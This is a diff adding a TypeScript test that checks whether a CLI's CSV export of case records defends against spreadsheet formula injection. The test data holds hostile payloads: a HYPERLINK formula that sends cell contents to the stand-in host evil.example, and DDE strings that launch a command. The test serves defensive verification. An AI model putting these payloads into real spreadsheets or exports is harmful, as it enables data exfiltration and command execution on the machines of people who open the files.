@@ -152,3 +152,26 @@ describe("reassure export cases", () => {
     expect(nowhere.stderr).toContain("ENOENT");
   });
 });
+
+// OWASP CSV injection: what a spreadsheet would run as a formula must arrive as text.
+const HOSTILE_BOROUGHS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];
+
+describe("reassure export cases with hostile ward data", () => {
+  let db: TestDatabase;
+  beforeAll(async () => {
+    db = await createTestDatabase("sqlite");
+    const deps = createServices(loadConfig({ DATABASE_URL: db.url, LOG_LEVEL: "silent" }), db.store, createLogger("silent"), new FixedClock(new Date("2024-04-02T09:00:00Z")));
+    const wards = HOSTILE_BOROUGHS.map((borough, i) => ({ code: `E0510000${i}`, name: `Ward ${i}`, borough, mode: "rollout" as const }));
+    await seedWards(deps, wards);
+    expect((await importCases(deps, caseCsv(wards.length, { wards: wards.map((w) => w.code) }))).created).toBe(wards.length);
+  });
+  afterAll(() => db.dispose());
+
+  it("writes every cell that begins with = + - @ tab or carriage return behind a quote, so it opens as text", async () => {
+    const { code, stdout, stderr } = await runCli(["export", "cases"], { DATABASE_URL: db.url, LOG_LEVEL: "silent" });
+    expect(code, stderr).toBe(0);
+    const rows = parse(stdout, { columns: true }) as Record<string, string>[];
+    expect(rows.map((r) => r.borough).sort()).toEqual(HOSTILE_BOROUGHS.map((b) => `'${b}`).sort());
+    for (const row of rows) for (const cell of Object.values(row)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+});
